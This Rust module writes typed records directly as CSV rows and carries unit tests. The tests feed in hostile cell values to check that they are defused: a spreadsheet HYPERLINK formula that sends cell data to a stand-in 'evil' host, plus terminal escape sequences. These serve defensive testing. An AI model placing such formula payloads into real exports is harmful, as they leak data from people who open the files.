//! One row written straight from its typed record to the CSV writer: each
//! field of the `Serialize` struct becomes one cell through
//! [`csv_cell::text`](super::csv_cell::text), with no JSON map built per row
//! (which cost five times the rest of a 10,000-row listing).
//!
//! The cells are the ones the JSON value would have given: strings escaped
//! and defused, integers and booleans as JSON writes them (`12`, `true`),
//! `None` and unit empty. Only what the records hold is supported; anything
//! else (a nested map, a sequence, a float) is an error rather than a
//! silently wrong cell.

use std::fmt::{self, Display};
use std::io::Write;

use serde::ser::{self, Impossible, Serialize};

use super::csv_cell;

/// A row that could not be written as CSV.
#[derive(Debug)]
pub enum RowError {
    /// The writer failed.
    Csv(csv::Error),
    /// The record holds a value a CSV cell cannot (a bug in a record type).
    Unsupported(String),
}

impl Display for RowError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RowError::Csv(e) => write!(f, "{e}"),
            RowError::Unsupported(what) => write!(f, "a CSV cell cannot hold {what}"),
        }
    }
}

impl std::error::Error for RowError {}

impl ser::Error for RowError {
    fn custom<T: Display>(msg: T) -> Self {
        RowError::Unsupported(msg.to_string())
    }
}

/// Writes `row` (a struct, or a map of scalars) as one CSV record.
pub fn write<W: Write, T: Serialize + ?Sized>(
    w: &mut csv::Writer<W>,
    row: &T,
) -> Result<(), RowError> {
    row.serialize(Row { w: &mut *w })?;
    w.write_record(None::<&[u8]>).map_err(RowError::Csv)
}

/// The serializer of the whole row: accepts a struct (or a map) only.
struct Row<'a, W: Write> {
    w: &'a mut csv::Writer<W>,
}

/// The serializer of one cell.
struct Cell<'a, W: Write> {
    w: &'a mut csv::Writer<W>,
}

impl<W: Write> Cell<'_, W> {
    fn field(self, text: &str) -> Result<(), RowError> {
        self.w.write_field(text).map_err(RowError::Csv)
    }

    fn number(self, n: impl Display) -> Result<(), RowError> {
        let mut buf = [0u8; 40];
        let mut cursor = std::io::Cursor::new(&mut buf[..]);
        write!(cursor, "{n}").map_err(|e| RowError::Csv(e.into()))?;
        let len = cursor.position() as usize;
        self.w.write_field(&buf[..len]).map_err(RowError::Csv)
    }
}

fn unsupported<T>(what: &str) -> Result<T, RowError> {
    Err(RowError::Unsupported(what.to_string()))
}

impl<'a, W: Write> ser::Serializer for Row<'a, W> {
    type Ok = ();
    type Error = RowError;
    type SerializeSeq = Impossible<(), RowError>;
    type SerializeTuple = Impossible<(), RowError>;
    type SerializeTupleStruct = Impossible<(), RowError>;
    type SerializeTupleVariant = Impossible<(), RowError>;
    type SerializeMap = Fields<'a, W>;
    type SerializeStruct = Fields<'a, W>;
    type SerializeStructVariant = Impossible<(), RowError>;

    fn serialize_struct(self, _: &'static str, _: usize) -> Result<Fields<'a, W>, RowError> {
        Ok(Fields { w: self.w })
    }
    fn serialize_map(self, _: Option<usize>) -> Result<Fields<'a, W>, RowError> {
        Ok(Fields { w: self.w })
    }
    fn serialize_newtype_struct<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        v: &T,
    ) -> Result<(), RowError> {
        v.serialize(self)
    }

    fn serialize_bool(self, _: bool) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_i8(self, _: i8) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_i16(self, _: i16) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_i32(self, _: i32) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_i64(self, _: i64) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_u8(self, _: u8) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_u16(self, _: u16) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_u32(self, _: u32) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_u64(self, _: u64) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_f32(self, _: f32) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_f64(self, _: f64) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_char(self, _: char) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_str(self, _: &str) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_bytes(self, _: &[u8]) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_none(self) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_some<T: Serialize + ?Sized>(self, _: &T) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_unit(self) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_unit_struct(self, _: &'static str) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_unit_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
    ) -> Result<(), RowError> {
        unsupported("a bare value as a row")
    }
    fn serialize_newtype_variant<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: &T,
    ) -> Result<(), RowError> {
        unsupported("an enum as a row")
    }
    fn serialize_seq(self, _: Option<usize>) -> Result<Self::SerializeSeq, RowError> {
        unsupported("a sequence as a row")
    }
    fn serialize_tuple(self, _: usize) -> Result<Self::SerializeTuple, RowError> {
        unsupported("a tuple as a row")
    }
    fn serialize_tuple_struct(
        self,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleStruct, RowError> {
        unsupported("a tuple as a row")
    }
    fn serialize_tuple_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleVariant, RowError> {
        unsupported("an enum as a row")
    }
    fn serialize_struct_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStructVariant, RowError> {
        unsupported("an enum as a row")
    }
}

/// The fields of the row, each written as a cell in order.
struct Fields<'a, W: Write> {
    w: &'a mut csv::Writer<W>,
}

impl<W: Write> ser::SerializeStruct for Fields<'_, W> {
    type Ok = ();
    type Error = RowError;
    fn serialize_field<T: Serialize + ?Sized>(
        &mut self,
        _: &'static str,
        v: &T,
    ) -> Result<(), RowError> {
        v.serialize(Cell { w: &mut *self.w })
    }
    fn end(self) -> Result<(), RowError> {
        Ok(())
    }
}

impl<W: Write> ser::SerializeMap for Fields<'_, W> {
    type Ok = ();
    type Error = RowError;
    fn serialize_key<T: Serialize + ?Sized>(&mut self, _: &T) -> Result<(), RowError> {
        Ok(())
    }
    fn serialize_value<T: Serialize + ?Sized>(&mut self, v: &T) -> Result<(), RowError> {
        v.serialize(Cell { w: &mut *self.w })
    }
    fn end(self) -> Result<(), RowError> {
        Ok(())
    }
}

impl<W: Write> ser::Serializer for Cell<'_, W> {
    type Ok = ();
    type Error = RowError;
    type SerializeSeq = Impossible<(), RowError>;
    type SerializeTuple = Impossible<(), RowError>;
    type SerializeTupleStruct = Impossible<(), RowError>;
    type SerializeTupleVariant = Impossible<(), RowError>;
    type SerializeMap = Impossible<(), RowError>;
    type SerializeStruct = Impossible<(), RowError>;
    type SerializeStructVariant = Impossible<(), RowError>;

    fn serialize_str(self, s: &str) -> Result<(), RowError> {
        let cell = csv_cell::text(s);
        self.field(&cell)
    }
    fn serialize_char(self, c: char) -> Result<(), RowError> {
        self.serialize_str(c.encode_utf8(&mut [0; 4]))
    }
    fn serialize_bool(self, b: bool) -> Result<(), RowError> {
        self.field(if b { "true" } else { "false" })
    }
    fn serialize_i8(self, n: i8) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_i16(self, n: i16) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_i32(self, n: i32) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_i64(self, n: i64) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_u8(self, n: u8) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_u16(self, n: u16) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_u32(self, n: u32) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_u64(self, n: u64) -> Result<(), RowError> {
        self.number(n)
    }
    fn serialize_f32(self, _: f32) -> Result<(), RowError> {
        unsupported("a float (money is exact)")
    }
    fn serialize_f64(self, _: f64) -> Result<(), RowError> {
        unsupported("a float (money is exact)")
    }
    fn serialize_bytes(self, _: &[u8]) -> Result<(), RowError> {
        unsupported("bytes")
    }
    fn serialize_none(self) -> Result<(), RowError> {
        self.field("")
    }
    fn serialize_some<T: Serialize + ?Sized>(self, v: &T) -> Result<(), RowError> {
        v.serialize(self)
    }
    fn serialize_unit(self) -> Result<(), RowError> {
        self.field("")
    }
    fn serialize_unit_struct(self, _: &'static str) -> Result<(), RowError> {
        self.field("")
    }
    fn serialize_unit_variant(
        self,
        _: &'static str,
        _: u32,
        variant: &'static str,
    ) -> Result<(), RowError> {
        self.serialize_str(variant)
    }
    fn serialize_newtype_struct<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        v: &T,
    ) -> Result<(), RowError> {
        v.serialize(self)
    }
    fn serialize_newtype_variant<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: &T,
    ) -> Result<(), RowError> {
        unsupported("an enum with data")
    }
    fn serialize_seq(self, _: Option<usize>) -> Result<Self::SerializeSeq, RowError> {
        unsupported("a sequence")
    }
    fn serialize_tuple(self, _: usize) -> Result<Self::SerializeTuple, RowError> {
        unsupported("a tuple")
    }
    fn serialize_tuple_struct(
        self,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleStruct, RowError> {
        unsupported("a tuple")
    }
    fn serialize_tuple_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleVariant, RowError> {
        unsupported("an enum with data")
    }
    fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, RowError> {
        unsupported("a map")
    }
    fn serialize_struct(
        self,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStruct, RowError> {
        unsupported("a nested record")
    }
    fn serialize_struct_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStructVariant, RowError> {
        unsupported("an enum with data")
    }
}

#[cfg(test)]
mod tests {
    use serde::Serialize;

    use super::*;
    use crate::render::csv_cell;

    #[derive(Serialize)]
    struct Sample {
        id: i64,
        name: String,
        phone: Option<String>,
        company: Option<String>,
        signed: bool,
        count: u32,
    }

    fn via_json(row: &Sample) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        let value = serde_json::to_value(row).unwrap();
        let cells: Vec<String> = value
            .as_object()
            .unwrap()
            .values()
            .map(csv_cell::cell)
            .collect();
        w.write_record(cells).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    fn direct(row: &Sample) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        write(&mut w, row).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn cells_are_those_of_the_json_value() {
        for name in [
            "Kevin Casey",
            "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "x\u{1b}[2J\u{7f}\u{9b}y",
            "a,b\n\"c\"",
            "",
            "-12.50",
            "\t=1",
        ] {
            let row = Sample {
                id: -7,
                name: name.to_string(),
                phone: Some("+678 123 456 78".into()),
                company: None,
                signed: true,
                count: 75,
            };
            assert_eq!(direct(&row), via_json(&row), "{name:?}");
        }
    }

    #[test]
    fn floats_and_nested_values_are_refused() {
        #[derive(Serialize)]
        struct Bad {
            amount: f64,
        }
        let mut w = csv::Writer::from_writer(Vec::new());
        assert!(write(&mut w, &Bad { amount: 1.5 }).is_err());
    }
}
